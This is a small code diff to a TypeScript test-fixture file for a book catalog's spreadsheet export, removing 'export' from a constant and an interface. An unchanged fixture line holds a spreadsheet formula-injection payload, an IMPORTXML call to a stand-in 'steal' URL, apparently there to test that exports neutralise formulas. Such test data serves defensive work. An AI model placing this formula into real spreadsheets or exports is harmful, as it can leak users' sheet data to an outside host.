@@ -5,7 +5,7 @@
 import type { Book, Series } from './catalog.ts';
 
 /** Exactly 50,000 characters: the most one Sheets cell holds. */
-export const LONG_TEXT = 'A very long title. '.repeat(2_700).slice(0, 50_000);
+const LONG_TEXT = 'A very long title. '.repeat(2_700).slice(0, 50_000);
 
 const TITLES: readonly string[] = [
   '=IMPORTXML("https://example.invalid/steal","//a")',
@@ -31,7 +31,7 @@ const SERIES_NAMES: readonly string[] = [
   '+Plus',
 ];
 
-export interface BookText {
+interface BookText {
   readonly title: string;
   readonly subtitle: string;
   readonly isbn: string | null;
